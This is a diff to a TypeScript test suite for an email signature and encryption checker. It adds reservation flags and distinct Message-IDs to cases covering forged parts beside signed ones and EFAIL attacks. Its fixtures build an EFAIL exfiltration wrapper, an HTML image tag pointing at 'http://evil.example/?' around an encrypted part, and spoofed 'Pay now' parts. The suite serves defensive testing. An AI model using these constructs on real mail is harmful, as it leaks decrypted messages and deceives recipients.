@@ -17,6 +17,8 @@ const EVIL = 'evil.example';
 const mixed = (...parts: string[]) =>
   'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="around"\r\n\r\n' +
   `${parts.map((part) => `--around\r\n${part}\r\n`).join('')}--around--\r\n`;
+/** With a Message-ID of its own, as every mail has. */
+const another = (message: string) => message.replace('Message-ID: <1@', 'Message-ID: <2@');
 const OPENING = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?';
 const CLOSING = 'Content-Type: text/html\r\n\r\n">';
 const inner = (from: string, parameter = 'hp="cipher"') =>
@@ -213,6 +215,7 @@ const AROUND_SIGNATURES: readonly ReceivedCase[] = [
       mixed(await detachedEntity(TEXT)(cast), 'Content-Type: text/plain\r\n\r\n___\r\nThe list\r\n'),
     ),
     verdict: 'not-signed',
+    reservations: ['not-at-the-top'],
   },
   {
     title: 'a genuine signed part behind a forged one',
@@ -221,6 +224,7 @@ const AROUND_SIGNATURES: readonly ReceivedCase[] = [
       mixed('Content-Type: text/plain\r\n\r\nPay now\r\n', await detachedEntity(TEXT)(cast)),
     ),
     verdict: 'not-signed',
+    reservations: ['not-at-the-top'],
     text: 'Pay now',
   },
   {
@@ -229,7 +233,7 @@ const AROUND_SIGNATURES: readonly ReceivedCase[] = [
     make: mail(async (cast) =>
       mixed(
         'Content-Type: text/plain\r\n\r\nPay now\r\n',
-        `Content-Type: message/rfc822\r\n\r\n${await mail(detachedEntity(TEXT))(cast)}`,
+        `Content-Type: message/rfc822\r\n\r\n${another(await mail(detachedEntity(TEXT))(cast))}`,
       ),
     ),
     verdict: 'not-signed',
@@ -323,6 +327,7 @@ const EFAIL: readonly ReceivedCase[] = [
     shape: 'by hand',
     make: mail(async (cast) => mixed(OPENING, await encryptedEntity(TEXT)(cast), CLOSING)),
     verdict: 'not-signed',
+    reservations: ['not-at-the-top'],
     text: null,
   },
   {
@@ -333,7 +338,8 @@ const EFAIL: readonly ReceivedCase[] = [
         await detachedEntity(mixed(OPENING, await encryptedEntity(TEXT)(cast), CLOSING), kim)(cast),
       { fields: { from: 'kim@citizen.example' } },
     ),
-    verdict: 'valid',
+    verdict: 'valid-but',
+    reservations: ['not-at-the-top'],
     from: 'kim@citizen.example',
     text: null,
   },
@@ -343,7 +349,7 @@ const EFAIL: readonly ReceivedCase[] = [
     make: mail(async (cast) =>
       mixed(
         'Content-Type: text/plain\r\n\r\nSee below\r\n',
-        `Content-Type: message/rfc822\r\n\r\n${await mail(encryptedEntity(TEXT))(cast)}`,
+        `Content-Type: message/rfc822\r\n\r\n${another(await mail(encryptedEntity(TEXT))(cast))}`,
       ),
     ),
     verdict: 'not-signed',
